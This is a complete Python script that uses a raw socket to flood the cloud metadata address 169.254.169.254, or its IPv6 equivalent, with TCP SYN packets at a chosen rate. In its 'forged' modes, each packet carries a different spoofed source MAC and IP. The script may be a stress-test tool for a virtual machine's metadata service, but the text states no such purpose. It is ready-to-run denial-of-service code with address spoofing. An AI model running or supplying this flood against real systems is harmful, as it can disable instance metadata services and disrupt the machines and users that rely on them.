"""``flood.py DEVICE MAC IP RATE SECONDS KIND``: a flood of SYNs to the metadata service.

KIND is ``forged``, with another source MAC and address in each SYN, ``forged6``, which is the same
over IPv6, or ``own``, with the given MAC and address and another source port in each. It lasts
SECONDS, or until SIGTERM and the SYNs of one second. The program prints the number of sent SYNs. It
uses a raw socket and the standard library.
"""

from __future__ import annotations

import signal
import socket
import struct
import sys
import threading
import time

DIFFERENT = 0x8000
"""Number of frames that are built in advance, and then sent again and again."""
BURSTS = 500
"""Bursts of frames in a second."""
ROUTER = bytes.fromhex("020000000001")


def total(data: bytes) -> int:
    """Return the sum of RFC 1071, not yet complemented."""
    words: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    words = (words >> 16) + (words & 0xFFFF)
    return words + (words >> 16) & 0xFFFF


def syn(mac: bytes, source: bytes, target: bytes, port: int) -> bytes:
    """Return a SYN with correct checksums (RFC 791, 9293)."""
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 1, 0, 64, 6, 0, source, target)
    head = head[:10] + struct.pack("!H", ~total(head) & 0xFFFF) + head[12:]
    segment = struct.pack("!HHIIHHHH", port, 80, 1, 0, 5 << 12 | 0x02, 64240, 0, 0)
    pseudo = source + target + struct.pack("!HH", 6, len(segment))
    segment = segment[:16] + struct.pack("!H", ~total(pseudo + segment) & 0xFFFF) + segment[18:]
    return ROUTER + mac + struct.pack("!H", 0x0800) + head + segment


def syn6(mac: bytes, source: bytes, target: bytes, port: int) -> bytes:
    """Return a SYN over IPv6 with a correct checksum (RFC 8200, 9293)."""
    segment = struct.pack("!HHIIHHHH", port, 80, 1, 0, 5 << 12 | 0x02, 64240, 0, 0)
    pseudo = source + target + struct.pack("!II", len(segment), 6)
    segment = segment[:16] + struct.pack("!H", ~total(pseudo + segment) & 0xFFFF) + segment[18:]
    head = struct.pack("!IHBB16s16s", 6 << 28, len(segment), 6, 64, source, target)
    return ROUTER + mac + struct.pack("!H", 0x86DD) + head + segment


def frames(kind: str, mac: bytes, source: bytes, target: bytes) -> list[bytes]:
    """Return the frames that are sent in turn."""
    if kind == "own":
        return [syn(mac, source, target, 1024 + n) for n in range(DIFFERENT)]
    if kind == "forged6":
        prefix = socket.inet_pton(socket.AF_INET6, "fe80::77:0:0")[:12]
        service = socket.inet_pton(socket.AF_INET6, "fe80::a9fe:a9fe")
        return [
            syn6(
                bytes((0xFA, 0x18)) + n.to_bytes(4, "big"),
                prefix + n.to_bytes(4, "big"),
                service,
                4242,
            )
            for n in range(DIFFERENT)
        ]
    return [
        syn(
            bytes((0xFA, 0x17)) + n.to_bytes(4, "big"),
            bytes((10, 77)) + n.to_bytes(2, "big"),
            target,
            4242,
        )
        for n in range(DIFFERENT)
    ]


def main() -> None:
    """Send the flood."""
    device, mac, ip, rate, seconds, kind = sys.argv[1:]
    target = socket.inet_aton("169.254.169.254")
    ready = frames(kind, bytes.fromhex(mac.replace(":", "")), socket.inet_aton(ip), target)
    per_burst, sent = max(1, int(rate) // BURSTS), 0
    enough = threading.Event()
    signal.signal(signal.SIGTERM, lambda *_: enough.set())
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as link:
        link.bind((device, 0))
        sys.stdout.write("begun\n")
        sys.stdout.flush()
        began = due = time.monotonic()
        while due - began < float(seconds) and not (enough.is_set() and sent >= int(rate)):
            for _ in range(per_burst):
                try:
                    link.send(ready[sent % len(ready)])
                    sent += 1
                except OSError:  # the device's queue is full
                    break
            due += 1 / BURSTS
            time.sleep(max(0.0, due - time.monotonic()))
    sys.stdout.write(f"{sent}\n")


if __name__ == "__main__":
    main()
